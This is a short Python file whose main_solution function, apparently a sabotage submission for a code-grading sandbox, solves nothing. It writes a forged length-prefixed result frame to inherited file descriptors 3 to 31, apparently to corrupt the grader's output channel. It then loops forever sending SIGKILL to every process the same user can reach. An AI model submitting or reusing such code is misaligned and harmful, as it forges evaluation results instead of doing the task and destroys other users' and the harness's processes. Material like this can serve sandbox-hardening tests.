import os
import signal
import struct
import time


def main_solution(x):
    # A made-up result frame (not even an object) on every descriptor, then stay
    # behind killing whatever else runs under this uid.
    for fd in range(3, 32):
        try:
            os.write(fd, struct.pack(">I", 7) + b'"wrong"')
        except OSError:
            pass
    while True:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        time.sleep(0.001)
